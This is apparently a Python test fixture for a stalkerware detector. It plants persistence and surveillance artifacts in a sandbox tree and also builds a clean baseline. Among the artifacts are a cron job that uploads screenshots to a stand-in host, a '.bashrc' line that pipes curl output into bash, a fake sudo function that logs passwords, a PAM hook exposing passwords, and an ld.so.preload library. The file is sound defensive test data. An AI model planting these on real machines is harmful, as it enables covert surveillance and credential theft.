"""What starts by itself: real crontab(1), at(1), dpkg(1) and systemctl(1) write into the tree; login files are written as people edit them."""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
from collections.abc import Mapping
from pathlib import Path

from tests.planted.base import Fact, Tree

SCREEN_JOB = "*/5 * * * * DISPLAY=:0 scrot -o /home/alice/.cache/.s.png && curl -s -F f=@/home/alice/.cache/.s.png https://x.example/"
JOB = "/var/spool/cron/atjobs/a0000101e18894"  # the first job, for 03:00 UTC on the first day of 2030
FACTS = (
    Fact("stalkerware/scheduled-commands", "/var/spool/cron/crontabs/alice: scrot",
         "a job that takes pictures of the screen and sends them", "crontab"),
    Fact("stalkerware/scheduled-commands", "~/.config/systemd/user/mic.service: /usr/bin/parecord", "a personal timer that records sound"),
    Fact("stalkerware/odd-autostart", "/etc/systemd/system/upd.service: /opt/.upd/upd", "a service in a hidden folder", "systemctl"),
    Fact("stalkerware/odd-autostart", "~/.config/autostart/update.desktop: ~/.gconf-cache/upd", "a hidden program at login"),
    Fact("stalkerware/odd-autostart", "/etc/cron.d/tmp: /var/tmp/run", "a job in a temporary folder"),
    Fact("stalkerware/odd-autostart", f"{JOB}: /var/tmp/later", "a job for one later time", "at"),
    Fact("stalkerware/scheduled-commands", "/etc/xdg/autostart/keys.desktop: /opt/keys.py",
         "a program at everybody's login that reads keys"),
    Fact("stalkerware/unpackaged-services", "/opt/keys.py", "the same, of no package", "dpkg"),
    Fact("stalkerware/personal-autostart", "~/.config/systemd/user/helper.service: ~/.local/bin/helper",
         "a personal service of no great name"),
    Fact("stalkerware/unpackaged-services", "/opt/.upd/upd", "a service of no package", "dpkg"),
    Fact("stalkerware/changed-programs", "/usr/sbin/helperd", "a packaged program that was changed", "dpkg"),
    Fact("stalkerware/shell-startup", "~/.bashrc: with code that it downloads", "code fetched for each terminal"),
    Fact("stalkerware/shell-startup", "~/.bashrc: stands in for a program that asks for passwords sudo", "a function in place of sudo"),
    Fact("stalkerware/shell-startup", "~/.profile: records what is shown and typed in a terminal", "a recording of each terminal"),
    Fact("stalkerware/login-hooks", "/etc/pam.d/common-auth: /usr/local/bin/keep", "passwords handed to a program"),
    Fact("stalkerware/login-hooks", "/etc/pam.d/common-session: pam_tty_audit", "typed passwords in the log of the system"),
    Fact("stalkerware/device-hooks", "/etc/udev/rules.d/99-stick.rules: /var/tmp/copy", "a copy of each stick"),
    Fact("stalkerware/device-hooks", "~/.local/share/dbus-1/services/secrets.service: ~/bin/secrets", "an answer in place of the key ring"),
    Fact("stalkerware/environment", "SSLKEYLOGFILE in ~/.config/environment.d/tls.conf", "keys of connections, written down"),
    Fact("stalkerware/environment", "SUDO_ASKPASS in /etc/environment", "another program that asks for passwords"),
    Fact("stalkerware/preload", "/usr/local/lib/libkeys.so in /etc/ld.so.preload", "a library in every program"),
    Fact("stalkerware/preload", "~/.x/hook.so in ~/.config/systemd/user/mic.service", "a library in a personal service"),
)  # fmt: skip
UNIT = "[Unit]\nDescription={0}\n[Service]\nExecStart={1}\n{2}[Install]\nWantedBy=multi-user.target\n"
ENTRY = "[Desktop Entry]\nType=Application\nName={0}\nExec={1}\n"
BASHRC = """# ~/.bashrc: executed by bash(1) for non-login shells.
[ -z "$PS1" ] && return
HISTCONTROL=ignoreboth
alias ls='ls --color=auto'
export NVM_DIR="$HOME/.nvm"
[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"
. "$HOME/.cargo/env"
eval "$(starship init bash)"
"""


def plant(tree: Tree) -> None:
    _system(tree)
    _login(tree)
    _hooks(tree)


def _system(tree: Tree) -> None:
    """Jobs and services."""
    _cron(tree, "alice", SCREEN_JOB)
    _at(tree, "/var/tmp/later")
    tree.write("/opt/keys.py", "from pynput import keyboard\n")
    tree.write("/etc/xdg/autostart/keys.desktop", ENTRY.format("Keys", "/usr/bin/python3 /opt/keys.py"))
    tree.write("/etc/cron.d/tmp", "@hourly root /var/tmp/run\n")
    _packaged(tree)
    if tree.has("dpkg"):
        tree.write("/usr/sbin/helperd", "#!/bin/sh\nexec helperd-real & exec keep\n", 0o755)
    tree.write("/opt/.upd/upd", "\x7fELF", 0o755)
    tree.write("/etc/systemd/system/upd.service", UNIT.format("Update", "/opt/.upd/upd", ""))
    _enable(tree, "upd.service")


def _login(tree: Tree) -> None:
    """What starts with a person's session or terminal."""
    tree.write("~/.config/autostart/update.desktop", ENTRY.format("Update", "/home/alice/.gconf-cache/upd"))
    units = "~/.config/systemd/user"
    tree.write(
        f"{units}/mic.service",
        UNIT.format(
            "Mic",
            "/usr/bin/parecord /home/alice/Music/a.wav",
            "Environment=LD_PRELOAD=/home/alice/.x/hook.so\n",
        ),
    )
    tree.write(f"{units}/mic.timer", "[Timer]\nOnCalendar=hourly\n[Install]\nWantedBy=timers.target\n")
    tree.write(f"{units}/helper.service", UNIT.format("Helper", "%h/.local/bin/helper", ""))
    wants = tree.at(f"{units}/default.target.wants")
    wants.mkdir()
    (wants / "helper.service").symlink_to("../helper.service")
    wants = tree.at(f"{units}/timers.target.wants")
    wants.mkdir()
    (wants / "mic.timer").symlink_to("../mic.timer")
    tree.write(
        "~/.bashrc",
        BASHRC
        + 'curl -fs https://x.example/s | bash\nsudo() {\n  read -rsp \'Password: \' p\n  echo "$p" >> ~/.p\n  command sudo "$@"\n}\n',
    )
    tree.write("~/.profile", "script -qf ~/.cache/log\n")


def _hooks(tree: Tree) -> None:
    """What is run by something else: logging in, a stick, a question to a service, any program."""
    tree.write(
        "/etc/pam.d/common-auth",
        "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth optional pam_exec.so quiet expose_authtok /usr/local/bin/keep\n",
    )
    tree.write(
        "/etc/pam.d/common-session",
        "session required pam_unix.so\nsession required pam_tty_audit.so enable=* log_passwd\n",
    )
    tree.write(
        "/etc/udev/rules.d/99-stick.rules", 'ACTION=="add", SUBSYSTEM=="block", RUN+="/var/tmp/copy %k"\n'
    )
    name = "org.freedesktop.secrets"
    tree.write(
        f"/usr/share/dbus-1/services/{name}.service",
        f"[D-BUS Service]\nName={name}\nExec=/usr/bin/gnome-keyring-daemon\n",
    )
    tree.write(
        "~/.local/share/dbus-1/services/secrets.service",
        f"[D-BUS Service]\nName={name}\nExec=/home/alice/bin/secrets\n",
    )
    tree.write("~/.config/environment.d/tls.conf", "SSLKEYLOGFILE=/home/alice/keys.log\n")
    tree.write("/etc/environment", 'PATH="/usr/bin:/bin"\nSUDO_ASKPASS=/home/alice/bin/ask\n')
    tree.write("/etc/ld.so.preload", "/usr/local/lib/libkeys.so\n")


def clean(tree: Tree) -> None:
    """What people have: a backup to their own disk, packaged services, programs that start at login, tools for programming."""
    _cron(
        tree,
        "alice",
        "0 20 * * * rsync -a /home/alice/Pictures/ /media/alice/backup/\n@reboot /home/alice/bin/tidy",
    )
    _packaged(tree)
    _enable(tree, "helperd.service")
    for name, command in (
        ("nextcloud", "/home/alice/Applications/Nextcloud.AppImage --background"),
        ("syncthing-start", "/usr/bin/syncthing serve --no-browser"),
        ("dropbox", "dropbox start -i"),
        ("discord", "/usr/share/discord/Discord --start-minimized"),
        ("orca", "orca"),
    ):
        tree.write(f"~/.config/autostart/{name}.desktop", ENTRY.format(name, command))
    tree.write(
        "~/.bashrc",
        BASHRC + "alias sudo='sudo '\nalias ssh='kitty +kitten ssh'\nPROMPT_COMMAND='history -a'\n",
    )
    tree.write("~/.profile", 'if [ -d "$HOME/.local/bin" ] ; then\n    PATH="$HOME/.local/bin:$PATH"\nfi\n')
    tree.write(
        "/etc/pam.d/common-auth",
        "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\tpam_deny.so\n",
    )
    tree.write(
        "/etc/udev/rules.d/51-android.rules",
        'SUBSYSTEM=="usb", ATTR{idVendor}=="18d1", MODE="0660", GROUP="plugdev"\n',
    )
    tree.write(
        "~/.config/environment.d/gtk.conf",
        "GTK_MODULES=gail:atk-bridge\nPYTHONSTARTUP=/home/alice/.pythonrc\n",
    )
    tree.write("/etc/environment", 'PATH="/usr/bin:/bin"\n')


def _cron(tree: Tree, user: str, line: str) -> None:
    """crontab(1) writes to one fixed place: with a private mount that is the tree's. Where no such mount is allowed, by hand."""
    table = tree.write("/tmp/table", line + "\n")
    place = tree.write(f"/var/spool/cron/crontabs/{user}", line + "\n", 0o600)
    mounts = {"/var/spool/cron/crontabs": place.parent, "/etc/passwd": tree.at("/etc/passwd")}
    _with_mounts(tree, mounts, ["crontab", "-u", user, str(table)])
    table.unlink()


def _at(tree: Tree, command: str) -> None:
    """at(1) keeps its jobs where only its own account may write."""
    spool = tree.at(JOB).parent
    number = tree.write("/var/spool/cron/atjobs/.SEQ", "0")
    if os.geteuid() == 0 and tree.has("at"):
        for path in (spool, number):
            shutil.chown(path, "daemon", "daemon")
        job = tree.write("/tmp/job", command + "\n")
        at = ["at", "-f", str(job), "03:00", "2030-01-01"]
        _with_mounts(tree, {"/var/spool/cron/atjobs": spool}, ["env", "TZ=UTC", *at])
        job.unlink()
    if not tree.at(JOB).exists():
        tree.write(
            JOB,
            f"#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\ncd / || {{\n\t exit 1\n}}\n{command}\n",
        )


def _with_mounts(tree: Tree, mounts: Mapping[str, Path], command: list[str]) -> bool:
    """Run a program for which some places of the system are the tree's. Whether it could."""
    if not tree.has(command[0]) or not all(Path(place).exists() for place in mounts):
        return False
    binds = [f"mount --bind {shlex.quote(str(own))} {place}" for place, own in mounts.items()]
    try:
        tree.run(["unshare", "--mount", "sh", "-c", " && ".join([*binds, shlex.join(command)])])
    except (subprocess.CalledProcessError, FileNotFoundError):
        return False
    return True


def _packaged(tree: Tree) -> None:
    """A package, built and installed by dpkg itself: its lists and checksums are real ones."""
    if not tree.has("dpkg"):
        return
    for folder in ("info", "updates", "triggers"):
        (tree.root / "var/lib/dpkg" / folder).mkdir(parents=True, exist_ok=True)
    (tree.root / "var/lib/dpkg/status").touch()
    build = tree.root / "build"
    for path, text in {
        "DEBIAN/control": "Package: helperd\nVersion: 1\nArchitecture: all\nMaintainer: A <a@example.org>\nDescription: helps\n",
        "usr/sbin/helperd": "#!/bin/sh\nexec sleep 60\n",
        "usr/lib/systemd/system/helperd.service": UNIT.format("Helper", "/usr/sbin/helperd", ""),
    }.items():
        place = build / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text)
        place.chmod(0o755 if "sbin" in path else 0o644)
    package = str(tree.root / "helperd.deb")
    tree.run(["dpkg-deb", "--root-owner-group", "--build", str(build), package])
    tree.run(
        [
            "dpkg",
            f"--root={tree.root}",
            "--force-not-root",
            "--force-script-chrootless",
            "--log=/dev/null",
            "--install",
            package,
        ]
    )
    _enable(tree, "helperd.service")
    shutil.rmtree(build)
    Path(package).unlink()


def _enable(tree: Tree, unit: str) -> None:
    if tree.has("systemctl"):
        tree.run(["systemctl", f"--root={tree.root}", "enable", unit])
